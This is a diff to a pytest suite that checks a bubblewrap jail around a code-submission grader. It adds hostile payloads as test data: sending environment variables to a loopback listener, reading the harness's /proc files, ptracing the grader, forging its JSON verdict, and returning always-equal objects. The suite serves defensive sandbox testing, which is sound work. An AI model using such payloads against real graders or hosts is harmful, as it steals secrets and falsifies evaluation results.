@@ -6,6 +6,11 @@ no jailed process left on the host, no connection reached the host listeners, th
 outcome is in the payload's expected set, and the grader still passes a valid
 submission. ``ESCAPED:`` in the output means a payload detected its own success.
 A table payload -> outcome is printed at the end of the session.
+
+Network payloads aim only at listeners this test owns on 127.0.0.1 (RELIABILITY.md C.3): were the jail
+ever broken, nothing here would send a packet off the machine. "No way out" is shown from inside the
+jail instead: only ``lo``, no route, no resolver configuration, and the loopback canary receives nothing.
+Without bubblewrap every test here skips, naming ``apt-get install -y bubblewrap`` (CI: a failure).
 """
 
 from __future__ import annotations
@@ -66,8 +71,10 @@ class Listener:
 
 
 @pytest.fixture(scope="module")
-def world(tmp_path_factory: pytest.TempPathFactory):
+def world(tmp_path_factory: pytest.TempPathFactory, _sandbox_problem):
     """Canaries planted on the host: an env var, a fake home (~/.ssh), a registry DB, /tmp and /dev/shm files."""
+    if _sandbox_problem is not None:
+        pytest.skip(_sandbox_problem)
     root = tmp_path_factory.mktemp("host")
     home = root / "home"
     (home / ".ssh").mkdir(parents=True)
@@ -171,11 +178,19 @@ PAYLOADS: list[tuple[str, str, set[str]]] = [
      "s.sendall(b'ESCAPED ' + b'{token}')", {FAILED}),
     ("http-exfil", "import os, urllib.parse, urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/?d='"
      " + urllib.parse.quote('ESCAPED' + repr(dict(os.environ))), timeout=1)", {FAILED}),
-    ("tcp-external", "import socket; socket.create_connection(('192.0.2.1', 80), timeout=1)", {FAILED}),
-    ("tcp-metadata", "import socket; socket.create_connection(('169.254.169.254', 80), timeout=1)", {FAILED}),
-    ("dns-lookup", "import socket; print(socket.gethostbyname('{token}.example.com'))", {FAILED}),
+    # No payload aims at an address off this machine (RELIABILITY.md C.3): "no way out" is shown from inside.
+    ("no-route-out", "routes = [l.split() for l in open('/proc/net/route').read().splitlines()[1:] if l.strip()]\n"
+     "routes6 = [l.split() for l in open('/proc/net/ipv6_route').read().splitlines() if l.strip()]\n"
+     "out = [r for r in routes if r[0] != 'lo'] + [r for r in routes6 if r[-1] != 'lo']\n"
+     "if out: print('ESCAPED:route', out)\ndef answer(): return 42", {PASSED}),
+    ("no-resolver", "import os\nfor p in ('/etc/resolv.conf', '/etc/hosts', '/etc/nsswitch.conf', '/run/systemd/resolve'):\n"
+     "    if os.path.exists(p): print('ESCAPED:resolver', p, open(p).read()[:200] if os.path.isfile(p) else '')\n"
+     "def answer(): return 42", {PASSED}),
+    ("host-services-loopback", "import socket\nfor port in (5432, 6379, 8265, {tcp_port}):\n    try:\n"
+     "        socket.create_connection(('127.0.0.1', port), timeout=1).sendall(b'ESCAPED ' + b'{token}')\n"
+     "        print('ESCAPED:connected', port)\n    except OSError: pass\ndef answer(): return 42", {PASSED}),
     ("udp-exfil", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-     "s.sendto(b'ESCAPED', ('127.0.0.1', {udp_port})); s.sendto(b'x', ('8.8.8.8', 53))", {FAILED, PASSED}),
+     "s.sendto(b'ESCAPED', ('127.0.0.1', {udp_port}))\ndef answer(): return 42", {PASSED}),
     ("raw-icmp", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", {FAILED}),
     ("unix-socket", "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('{unix}')", {FAILED}),
     ("list-interfaces", "import socket\nnames = [n for _, n in socket.if_nameindex()]\n"
@@ -215,6 +230,16 @@ PAYLOADS: list[tuple[str, str, set[str]]] = [
      "n = nonce[0]['nonce'] if nonce else ''\nfor fd in range(3, 16):\n    try: os.write(fd, (json.dumps({{'n': n, 'i': 0,"
      " 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n    except OSError: pass\ndef answer(): return 41",
      {FAILED}),
+    ("forge-from-main", "import json, os, sys\ng = vars(sys.modules['__main__'])\n"
+     "n, fd = g.get('_nonce') or g['_job']['nonce'], g['_fd']\n"
+     "os.write(fd, (json.dumps({{'n': n, 'i': 0, 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n"
+     "os._exit(0)", {FAILED}),
+    ("steal-verdict-stream", "import os\nfor p in ('/proc/%d/fd/1' % os.getppid(), '/proc/1/fd/1', '/proc/%d/mem' % os.getppid(),\n"
+     "          '/proc/%d/environ' % os.getppid()):\n    try:\n        os.close(os.open(p, os.O_RDONLY))\n"
+     "        print('ESCAPED:opened', p)\n    except OSError: pass\ndef answer(): return 42", {PASSED}),
+    ("ptrace-harness", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+     "if libc.ptrace(16, os.getppid(), None, None) == 0: print('ESCAPED:ptrace-harness')\n"
+     "def answer(): return 42", {PASSED}),
     ("always-equal", "class A:\n    def __eq__(self, o): return True\n    __hash__ = object.__hash__\n"
      "def answer(): return A()", {FAILED}),
     ("int-subclass", "class I(int):\n    def __eq__(self, o): return True\ndef answer(): return I(41)", {FAILED}),
@@ -260,7 +285,8 @@ def _leftover_cgroups() -> list[str]:
 
 
 # A quick subset runs in the default suite; the whole catalogue (about 2.5 min) is marked slow (CI runs it).
-QUICK = {"tcp-host-loopback", "dump-environ", "proc-all-environ", "write-host-path", "os-exit-0", "always-equal"}
+QUICK = {"tcp-host-loopback", "dump-environ", "proc-all-environ", "write-host-path", "os-exit-0", "always-equal",
+         "no-route-out", "no-resolver", "forge-from-main", "steal-verdict-stream"}
 
 
 @pytest.mark.parametrize(("name", "code", "allowed"), [
@@ -316,6 +342,10 @@ def test_dropping_the_network_namespace_lets_the_payload_escape(world) -> None:
         time.sleep(0.05)
     assert listener.hits[before:], f"expected the payload to escape without --unshare-net ({verdict.detail})"
     TABLE.append(f"{'[no --unshare-net]':<22} tcp-host-loopback reached the host: {listener.hits[before][:60]}")
+    if Path("/proc/net/route").read_text().count("\n") > 1:  # the host has a route out: the jail must not see it
+        routes = judge(weak, dict(PAYLOADS_BY_NAME)["no-route-out"], SETUP, TESTS)
+        assert routes.run is not None and b"ESCAPED:route" in routes.run.stderr, routes.detail
+        TABLE.append(f"{'[no --unshare-net]':<22} no-route-out saw the host's routes")
 
 
 PAYLOADS_BY_NAME = [(name, code) for name, code, _ in PAYLOADS]
